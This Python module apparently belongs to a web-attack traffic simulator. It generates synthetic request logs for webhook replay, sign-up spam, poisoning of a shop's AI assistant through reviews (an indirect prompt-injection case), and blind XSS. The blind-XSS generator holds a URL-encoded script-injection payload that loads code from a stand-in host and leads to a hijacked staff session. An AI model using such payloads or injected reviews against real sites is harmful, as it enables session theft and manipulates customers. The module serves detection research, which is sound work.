"""Attacks by what is written to the site: old messages again, spam by its mails, words for machines."""

from __future__ import annotations

from typing import Final

import numpy as np

from floodwarden.simulate.declare import Strength, family
from floodwarden.simulate.scene import Rows, Scene, scripted, together
from floodwarden.simulate.world import ABSENT, ITEMS

_REPLAYED: Final = 8  # until the account is looked at
_SCRIPT: Final = "%22%3E%3Cscript%20src=//x.example/{:x}%3E"
# Where a script may come to lie, and how the shop answers it there.
_FIELDS: Final = {
    "search": (200, 400), "coupon": (404, 422), "review": (200, 422), "profile": (200, 400), "assistant": (200, 422),
    "register": (200, 422), "reset": (202, 422), "login": (401, 400), "graphql": (200, 400), "missing": (404, 400),
}  # fmt: skip


@family(weak=Strength(1, 1, 2400), medium=Strength(2, 12, 900), strong=Strength(6, 80, 420))
def webhook_replay(scene: Scene, how: Strength) -> Rows:
    """True messages of the payment provider are posted again: signed as they are, they are taken for another payment.

    With the provider's name, from rented machines, two in three taken (200), the rest known already (409). After every
    eighth the account that is paid in looks at its balance and buys something with it.

    Source: GetHook (N. Kowalski), "Preventing webhook replay attacks: beyond timestamp windows", 2026-04-24.
    """
    rng = scene.rng
    n = max(_REPLAYED, round(how.sources * how.per_s * how.lasts_s / (1 + 4 / _REPLAYED)))
    at_s = scene.scattered(n, max(1.0, how.lasts_s - 20))
    pool = scene.addresses(how.sources, "hosting")
    ip, ua = scene.by_turns(pool, n), scene.tool("PayBridge-Hooks/2.1")
    posted = scene.requests(at_s, "callback", ip=ip, ua=ua, status=scene.mostly(n, 200, 409, 1 / 3))
    paid = at_s[_REPLAYED - 1 :: _REPLAYED]
    who = scene.by_turns(pool, len(paid))
    user = scene.strangers(how.sources, "payee")[rng.integers(0, how.sources, len(paid))]
    steps = [("balance", 3.0, 200), ("cart_add", 3.0, 200), ("checkout", 3.0, 200), ("pay", 3.0, 200)]
    return together(posted, scripted(scene, paid, steps, ip=who, user=user, ua=scene.browser(who)))


@family(oat="OAT-017", weak=Strength(20, 0.15, 3000), medium=Strength(60, 2, 1200), strong=Strength(150, 10, 480))
def name_field_spam(scene: Scene, how: Strength) -> Rows:
    """Strangers are signed up with an advertisement for a name, so that the site's welcome carries it to them.

    The front page, then the form, and never anything after it: no account is used. Eight in a hundred are members
    (409), six have a name that is too long (422), the others get their mail (200). From homes worldwide.

    Source: Kaspersky, "Spam delivered through your company website", 2019-08.
    """
    n = max(how.sources, round(how.sources * how.per_s * how.lasts_s / 2))
    begins_s = scene.scattered(n, max(1.0, how.lasts_s - 15))
    ip = scene.by_turns(scene.addresses(how.sources, "bot"), n)
    made = scripted(scene, begins_s, [("home", 0.0, 200), ("register", 4.0, 200)], ip=ip, ua=scene.browser(ip))
    made["status"][n:] = scene.rng.choice([200, 409, 422], n, p=[0.86, 0.08, 0.06])
    return made


@family(weak=Strength(1, 1.5, 3000), medium=Strength(4, 8, 1200), strong=Strength(15, 24, 480))
def assistant_poisoning(scene: Scene, how: Strength) -> Rows:
    """Reviews are written for the shop's assistant: rewritten until it says to others what stands hidden in them.

    An account for five items: the item's reviews, a review (one in seven is held back, 422), the assistant asked about
    that item, the review again, the assistant again, two to six times; then the next item. Nothing is bought.

    Source: K. Greshake and others, "Not what you've signed up for: compromising real-world LLM-integrated applications
    with indirect prompt injection", 2023-02-23; OWASP Top 10 for LLM Applications 2025, LLM01, 2024-11.
    """
    rng, m = scene.rng, how.sources
    n = max(m, round(m * how.per_s * how.lasts_s / 9.2))
    rounds = rng.integers(2, 7, n)
    turn, slot_s = np.arange(n) % m, how.lasts_s * m / n
    begins_s = np.minimum(np.arange(n) // m * slot_s, 0.95 * how.lasts_s) + rng.uniform(0, 0.1 * slot_s, n)
    ip, users = scene.addresses(m, "neighbour"), scene.strangers(n, "taster")
    user = users[turn + m * (np.arange(n) // (5 * m))]
    item, ua = rng.permutation(ITEMS)[:n], scene.browser(ip)
    about = {"path": scene.world.reviews[item], "ip": ip[turn], "user": user, "ua": ua[turn]}
    read = scene.requests(begins_s, "reviews", **about)
    new = np.arange(n) // m % 5 == 0
    signed = scene.requests(begins_s[new] - 3, "login", ip=ip[turn][new], user=user[new], ua=ua[turn][new])
    which = np.repeat(np.arange(n), rounds)
    nth = np.arange(len(which)) - np.searchsorted(which, which)
    wrote_s = begins_s[which] + 0.85 * slot_s * (0.1 + 0.9 * nth / rounds[which])
    held = scene.mostly(len(which), 200, 422, 1 / 7)
    wrote = scene.requests(wrote_s, "review", status=held, **{name: codes[which] for name, codes in about.items()})
    asks = which[held == 200]
    asked_s = wrote_s[held == 200] + 0.05 * slot_s
    asked = scene.requests(asked_s, "assistant", ip=ip[turn][asks], user=user[asks], ua=ua[turn][asks])
    return together(signed, read, wrote, asked)


@family(oat="OAT-014", weak=Strength(1, 1.5, 2400), medium=Strength(2, 12, 900), strong=Strength(5, 60, 420))
def blind_xss(scene: Scene, how: Strength) -> Rows:
    """A script is left in every field there is, for whoever of the staff opens it; then his session is at their hands.

    Ten routes by turns, a script in each: search, coupon, review, profile, assistant, sign-up, reset, sign-on, GraphQL
    and a page that is not there. A half is taken as if it were nothing, the rest refused. When seven tenths of the time
    are over one has worked: nothing but the back office from then on, order after order (200).

    Source: M. Bryant, "Poisoning the well: compromising GoDaddy customer support with blind XSS", 2016-05; OWASP Web
    Security Testing Guide 4.2, "Testing for Stored Cross Site Scripting", 2020-12-03.
    """
    rng = scene.rng
    at_s = scene.steady(how.sources * how.per_s, how.lasts_s)
    n = len(at_s)
    ip, user = scene.by_turns(scene.addresses(how.sources, "bot"), n), int(scene.strangers(1, "reader")[0])
    who = {"ip": ip, "ua": scene.browser(ip)}
    kind, refused = np.arange(n) % len(_FIELDS), rng.random(n) < 0.5
    marks = [_SCRIPT.format(one) for one in rng.integers(1 << 32, size=n).tolist()]
    made = scene.requests(at_s, "home", **who)
    for number, (endpoint, (taken, not_taken)) in enumerate(_FIELDS.items()):
        path = None
        if endpoint in ("search", "missing"):
            path = [f"/search?q={mark}" if endpoint == "search" else f"/{mark}" for mark in marks]
        elif endpoint == "review":
            path = [f"/items/{item}/reviews" for item in rng.integers(1, ITEMS, n).tolist()]
        signed = user if endpoint in ("review", "profile", "assistant", "coupon") else ABSENT
        status = np.where(refused, not_taken, taken)
        made[kind == number] = scene.requests(at_s, endpoint, path=path, user=signed, status=status, **who)[
            kind == number
        ]
    worked = at_s > 0.7 * how.lasts_s
    orders = [f"/backoffice/orders/{number}" for number in rng.integers(100_000, 160_000, n).tolist()]
    staff = int(scene.world.users.code(f"staff{rng.integers(60):03d}"))
    made[worked] = scene.requests(at_s, "backoffice", path=orders, user=staff, **who)[worked]
    return made
